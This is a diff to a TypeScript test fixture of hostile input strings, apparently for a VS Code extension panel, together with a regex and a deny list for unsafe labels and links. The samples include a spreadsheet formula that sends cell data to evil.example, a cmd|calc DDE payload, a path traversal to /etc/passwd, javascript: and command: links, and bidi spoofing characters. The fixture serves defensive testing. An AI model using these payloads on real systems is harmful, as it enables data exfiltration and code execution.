@@ -8,8 +8,7 @@ export const HOSTILE = {
   characterReferences: 'a &lt;b&gt; &#36;(flame) &#x202E;txt &nbsp;&amp;amp;',
   markdown:
     '# head **bold** `code` [link](https://evil.example/a) ![image](https://evil.example/i.png) | a | b |',
-  addresses:
-    'https://evil.example/b www.evil.example nobody@evil.example http://evil.example <https://evil.example/c>',
+  urls: 'https://evil.example/b www.evil.example nobody@evil.example http://evil.example <https://evil.example/c>',
   commandLinks:
     '[run](command:workbench.action.closeWindow) <command:workbench.action.closeWindow?> command:a.b',
   icons: '$(flame) \\$(trash) $(sync~spin) $(check)$(not an icon)',
@@ -18,8 +17,8 @@ export const HOSTILE = {
   bidi: 'abc\u202Egnp.exe\u202C \u2066isolate\u2069 \u200Fmark\u200E \u061Carabic',
   loneSurrogates: 'high \uD83D low \uDE00 swapped \uDE00\uD83D end \uD800',
   newlines: 'one\ntwo\r\nthree\rfour\u2028five\u2029six\n\n\n\nseven\tend\u000B\u000C',
-  unseen: '\u200B\u2060\uFEFF\u202E\u3164\u00AD\u2800',
-  blanks: ' \t\u00A0\u3000 ',
+  invisible: '\u200B\u2060\uFEFF\u202E\u3164\u00AD\u2800',
+  whitespace: ' \t\u00A0\u3000 ',
   formula: '=HYPERLINK("https://evil.example/?"&A1,"open") +1 -1 @SUM(A1) \t=cmd|\' /C calc\'!A0',
   prototype: '__proto__',
   path: '../../etc/passwd%2F%00/state:x/more?a#b',
@@ -32,10 +31,10 @@ export type HostileKind = keyof typeof HOSTILE;
 export const HOSTILE_VALUES = Object.entries(HOSTILE) as readonly (readonly [HostileKind, string])[];
 
 /** Characters that end a line, disturb what stands around them, or are half of one: never in a label. */
-export const DISTURBING = /[\p{Cc}\p{Cs}\u2028\u2029\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
+export const UNSAFE_IN_LABEL = /[\p{Cc}\p{Cs}\u2028\u2029\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
 
 /** Addresses that must not be opened, however the panel is asked. */
-export const NO_LINKS = [
+export const UNSAFE_LINKS = [
   'http://acme.example/terms',
   'javascript:alert(1)',
   'command:workbench.action.closeWindow',
